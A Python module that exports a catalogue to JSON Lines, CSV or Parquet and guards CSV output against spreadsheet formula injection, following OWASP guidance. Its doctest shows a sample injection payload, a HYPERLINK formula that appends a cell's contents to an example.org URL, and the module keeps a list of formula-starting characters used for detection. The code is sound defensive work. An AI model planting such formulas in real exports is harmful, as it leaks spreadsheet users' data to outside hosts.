"""Writing the canonical catalogue out: JSON Lines, CSV or one Parquet file.

The catalogue is streamed batch by batch, so memory stays flat at any size. JSON Lines
uses the canonical field names, one record per line, and ingests back to identical
records (``--format jsonl``); Parquet is the catalogue's own schema. Both are exact.

CSV is for people and their spreadsheets, so it is written safe to open: a text cell
that a spreadsheet would read as a formula is neutralised (:func:`neutralise`) unless a
raw export is asked for.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import TextIO

import pyarrow as pa
import pyarrow.dataset as ds
import pyarrow.parquet as pq

from ingest import schema

FORMATS = ("jsonl", "csv", "parquet")
LIST_SEPARATOR = "; "
_BATCH = 4096

# OWASP's rule against CSV injection (owasp.org/www-community/attacks/CSV_Injection):
# spreadsheets read a cell that begins with one of these as a formula, and a formula
# can fetch URLs or run commands when the file is opened. Titles do begin so: LoC's
# DLC:00273700 is "-- And the high places I'll bring down", which a spreadsheet takes
# for a formula, and a record from any source can hold "=HYPERLINK(...)".
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Every field of the canonical schema that holds text, scalar or list (year and
# year_end are numbers and never need it).
TEXT_FIELDS = frozenset(
    f.name for f in schema.RECORD
    if pa.types.is_string(f.type)
    or (pa.types.is_list(f.type) and pa.types.is_string(f.type.value_type)))


def _batches(catalogue_path: Path):
    # Read with the current schema: a version written before a field existed (kdc)
    # gives that field as null.
    dataset = ds.dataset(str(catalogue_path), format="parquet", schema=schema.RECORD)
    return dataset.to_batches(columns=list(schema.FIELDS), batch_size=_BATCH)


def records(catalogue_path: Path) -> Iterator[dict]:
    for batch in _batches(catalogue_path):
        yield from batch.to_pylist()


def write_jsonl(catalogue_path: Path, out: TextIO) -> int:
    n = 0
    for record in records(catalogue_path):
        out.write(json.dumps(record, ensure_ascii=False, separators=(",", ":")) + "\n")
        n += 1
    return n


def neutralise(cell: str) -> str:
    """The cell with a leading apostrophe if a spreadsheet would read it as a formula
    (it begins with =, +, -, @, a tab or a carriage return); otherwise unchanged.

    >>> print(neutralise('=HYPERLINK("http://example.org/?"&A1)'))
    '=HYPERLINK("http://example.org/?"&A1)
    >>> print(neutralise("Korea (North) -- History"))
    Korea (North) -- History
    """
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def csv_row(record: dict, raw: bool = False) -> list:
    """A canonical record as CSV cells in schema order: lists joined by '; ' (as
    Gutenberg does), None as an empty cell, text neutralised unless ``raw``."""
    row = []
    for name in schema.FIELDS:
        value = record[name]
        if name in schema.LIST_FIELDS:
            value = LIST_SEPARATOR.join(value or ())
        elif value is None:
            value = ""
        if not raw and name in TEXT_FIELDS:
            value = neutralise(value)
        row.append(value)
    return row


def write_csv(catalogue_path: Path, out: TextIO, raw: bool = False) -> int:
    """CSV with a header of canonical names, one row per record (:func:`csv_row`)."""
    writer = csv.writer(out)
    writer.writerow(schema.FIELDS)
    n = 0
    for record in records(catalogue_path):
        writer.writerow(csv_row(record, raw))
        n += 1
    return n


def write_parquet(catalogue_path: Path, out_path: Path) -> int:
    n = 0
    with pq.ParquetWriter(str(out_path), schema.RECORD) as writer:
        for batch in _batches(catalogue_path):
            writer.write_batch(batch.cast(schema.RECORD) if batch.schema != schema.RECORD else batch)
            n += batch.num_rows
    return n


def export(catalogue_path: Path, fmt: str, out: Path | None, raw: bool = False) -> int:
    """Write the catalogue at ``catalogue_path`` as ``fmt`` to ``out`` (None: stdout).

    ``raw`` writes CSV cells as catalogued, formulas and all; JSON Lines and Parquet
    are always exact, so it goes with CSV only.
    """
    if fmt not in FORMATS:
        raise ValueError(f"unknown export format {fmt!r}; use one of {', '.join(FORMATS)}")
    if raw and fmt != "csv":
        raise ValueError(f"a raw export is CSV only (--raw goes with --format csv): {fmt} "
                         "exports are always exact")
    if fmt == "parquet":
        if out is None:
            raise ValueError("parquet export needs --out FILE (it is not written to a terminal)")
        return write_parquet(catalogue_path, out)
    writer = write_jsonl if fmt == "jsonl" else functools.partial(write_csv, raw=raw)
    if out is None:
        return writer(catalogue_path, sys.stdout)
    tmp = out.with_name(out.name + ".partial")
    with io.open(tmp, "w", encoding="utf-8", newline="") as handle:
        n = writer(catalogue_path, handle)
    tmp.replace(out)
    return n
